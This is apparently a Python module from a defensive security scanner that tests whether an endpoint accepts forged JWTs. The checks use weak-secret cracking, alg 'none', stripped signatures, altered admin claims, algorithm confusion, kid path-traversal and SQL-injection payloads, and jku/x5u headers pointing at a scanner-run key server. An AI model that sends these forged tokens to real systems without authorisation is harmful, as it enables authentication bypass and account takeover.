"""Token forgery: each check sends a crafted token to the protected endpoint and reports it
if the target accepts it (a 2xx where the real token gets a 2xx and no token a 401/403)."""

from __future__ import annotations

import asyncio
import secrets
from pathlib import Path
from typing import Any

from bastion.scanner._callback import KeyServer
from bastion.scanner._client import Probe
from bastion.scanner._context import ScanContext
from bastion.scanner._jwt import (
    HMAC_HASHES,
    UnverifiedToken,
    b64e,
    crack_hmac,
    encode,
    key_forms,
    parse,
    sign_hmac,
)
from bastion.scanner._model import Severity
from bastion.scanner._registry import Findings, NotApplicable, check

__all__ = ["BUILTIN_SECRETS", "accepted", "valid_token"]

AREA = "tokens"
BUILTIN_SECRETS = (
    "secret", "secret123", "changeme", "change-me", "your-256-bit-secret", "your-secret-key",
    "supersecret", "jwt_secret", "jwt-secret", "secretkey", "secret-key", "password",
    "123456", "key", "test", "dev", "development", "default", "mysecret", "s3cr3t", "",
)  # fmt: skip


def accepted(probe: Probe) -> bool:
    return 200 <= probe.status < 300


async def valid_token(ctx: ScanContext) -> UnverifiedToken:
    """The scan's token, parsed, once the protected endpoint is shown to accept it and to
    refuse a request without one; otherwise :class:`NotApplicable`."""
    if ctx.token is None:
        raise NotApplicable("no token: give --user and --password-env, or --token")
    parsed = parse(ctx.token)
    if parsed is None:
        raise NotApplicable("the token is not a JWT")

    async def make() -> tuple[int, int]:
        return (await ctx.protected(ctx.token)).status, (await ctx.protected(None)).status

    with_token, without = await ctx.cached("token_baseline", make)
    if not 200 <= with_token < 300:
        raise NotApplicable(f"{ctx.options.protected_path} answered {with_token} to the token")
    if 200 <= without < 300:
        raise NotApplicable(f"{ctx.options.protected_path} accepts requests without a token")
    return parsed


async def _try(ctx: ScanContext, out: Findings, token: str, what: str, **headers: str) -> bool:
    probe = await ctx.protected(token, **headers)
    if accepted(probe):
        out.add(f"{what}: {probe.summary()}", probe.url)
        return True
    return False


@check(
    "token.weak-secret",
    area=AREA,
    title="Token signed with a guessable HMAC secret",
    severity=Severity.CRITICAL,
    fix="Sign with an asymmetric key (EdDSA/ES256), or an HMAC key of 32+ random bytes from "
    "a secret store; rotate now, since anyone can mint tokens.",
    order=40,
)
async def weak_secret(ctx: ScanContext, out: Findings) -> None:
    token = await valid_token(ctx)
    alg = str(token.header.get("alg"))
    if alg not in HMAC_HASHES:
        raise NotApplicable(f"the token is signed with {alg}, not an HMAC")
    candidates = _candidates(ctx.options.jwt_wordlist)
    found = await asyncio.to_thread(crack_hmac, token, candidates)  # offline, CPU only
    if found is not None:
        ctx.signing_key = (alg, found)
        ctx.redact.add(found)
        out.add(f"the {alg} token's secret is a listed weak secret ({len(found)} characters)")


def _candidates(wordlist: str | None) -> Any:
    yield from BUILTIN_SECRETS
    if wordlist:
        with Path(wordlist).open(encoding="utf-8", errors="replace") as lines:
            for line in lines:
                yield line.rstrip("\r\n")


@check(
    "token.alg-none",
    area=AREA,
    title='Unsigned token accepted (alg "none")',
    severity=Severity.CRITICAL,
    fix="Verify with a fixed list of algorithms (never from the token header); refuse `none`.",
    order=41,
)
async def alg_none(ctx: ScanContext, out: Findings) -> None:
    token = await valid_token(ctx)
    for alg in ("none", "None", "NONE", "nOnE"):
        forged = encode({**token.header, "alg": alg}, token.payload)
        if await _try(ctx, out, forged, f'alg "{alg}" without signature accepted'):
            return


@check(
    "token.signature-stripped",
    area=AREA,
    title="Token accepted without a valid signature",
    severity=Severity.CRITICAL,
    fix="Always verify the signature; an empty or random signature must be refused.",
    order=42,
)
async def stripped(ctx: ScanContext, out: Findings) -> None:
    token = await valid_token(ctx)
    for label, signature in (
        ("empty signature", b""),
        ("random signature", secrets.token_bytes(max(len(token.signature), 16))),
    ):
        if await _try(ctx, out, encode(token.header, token.payload, signature), label):
            return


@check(
    "token.claims-altered",
    area=AREA,
    title="Token with altered claims accepted",
    severity=Severity.CRITICAL,
    fix="Verify the signature over the exact header and payload received; never cache "
    "verification by signature alone.",
    order=43,
)
async def claims_altered(ctx: ScanContext, out: Findings) -> None:
    token = await valid_token(ctx)
    changed = dict(token.payload)
    if isinstance(changed.get("sub"), str):
        changed["sub"] = changed["sub"] + "-bscan"
    changed["scope"] = "admin"
    forged = encode(token.header, changed, token.signature)
    await _try(ctx, out, forged, "payload changed (sub, scope), original signature kept")


@check(
    "token.alg-confusion",
    area=AREA,
    title="HS256 token signed with the server's public key accepted",
    severity=Severity.CRITICAL,
    fix="Bind each key to one algorithm; verify with the algorithms configured for the key, "
    "never the token's `alg`.",
    order=44,
)
async def alg_confusion(ctx: ScanContext, out: Findings) -> None:
    token = await valid_token(ctx)
    probe = await ctx.send("GET", ctx.options.jwks_path)
    body = probe.json() if accepted(probe) else None
    keys = body.get("keys") if isinstance(body, dict) else None
    if not isinstance(keys, list) or not keys:
        raise NotApplicable(f"no JWKS at {ctx.options.jwks_path}")
    for jwk in keys:
        try:
            forms = list(key_forms(jwk))
        except (ValueError, KeyError, TypeError):
            continue
        header = {"alg": "HS256", "typ": "JWT", **({"kid": jwk["kid"]} if "kid" in jwk else {})}
        for index, form in enumerate(forms):
            forged = sign_hmac(header, token.payload, form)
            what = f"HS256 keyed with public key form #{index} of kid {jwk.get('kid', '?')}"
            if await _try(ctx, out, forged, what):
                return


@check(
    "token.kid-injection",
    area=AREA,
    title="Token key chosen by a manipulated kid",
    severity=Severity.HIGH,
    fix="Treat `kid` as an opaque name looked up in the configured key set; never as a path "
    "or query.",
    order=45,
)
async def kid_injection(ctx: ScanContext, out: Findings) -> None:
    token = await valid_token(ctx)
    cases = (
        ("../../../../../../../../dev/null", b""),
        ("/dev/null", b""),
        ("bscan' UNION SELECT 'bscan'-- -", b"bscan"),
    )
    for kid, key in cases:
        forged = sign_hmac({"alg": "HS256", "typ": "JWT", "kid": kid}, token.payload, key)
        if await _try(ctx, out, forged, f"kid {kid!r} with a matching HS256 key"):
            return


@check(
    "token.jku-injection",
    area=AREA,
    title="Token key taken from the token (jku / x5u / jwk)",
    severity=Severity.CRITICAL,
    fix="Ignore `jku`, `x5u`, `jwk` and `x5c` headers, or check them against an allow-list "
    "of the issuer's own key URLs.",
    order=46,
)
async def jku_injection(ctx: ScanContext, out: Findings) -> None:
    token = await valid_token(ctx)
    secret = secrets.token_bytes(32)
    jwk = {"kty": "oct", "kid": "bscan-" + secrets.token_hex(4), "k": b64e(secret), "alg": "HS256"}
    ctx.redact.add(jwk["k"])
    async with KeyServer({"keys": [jwk]}) as server:
        base = {"alg": "HS256", "typ": "JWT", "kid": jwk["kid"]}
        variants = (
            ("embedded jwk header", {**base, "jwk": jwk}),
            ("jku pointing at the scanner", {**base, "jku": server.url("/jwks.json")}),
            ("x5u pointing at the scanner", {**base, "x5u": server.url("/cert.pem")}),
        )
        for label, header in variants:
            if await _try(ctx, out, sign_hmac(header, token.payload, secret), label):
                return
        if server.hits:
            out.add(
                f"the target fetched the token's key URL: {server.hits[0]}",
                severity=Severity.MEDIUM,
            )
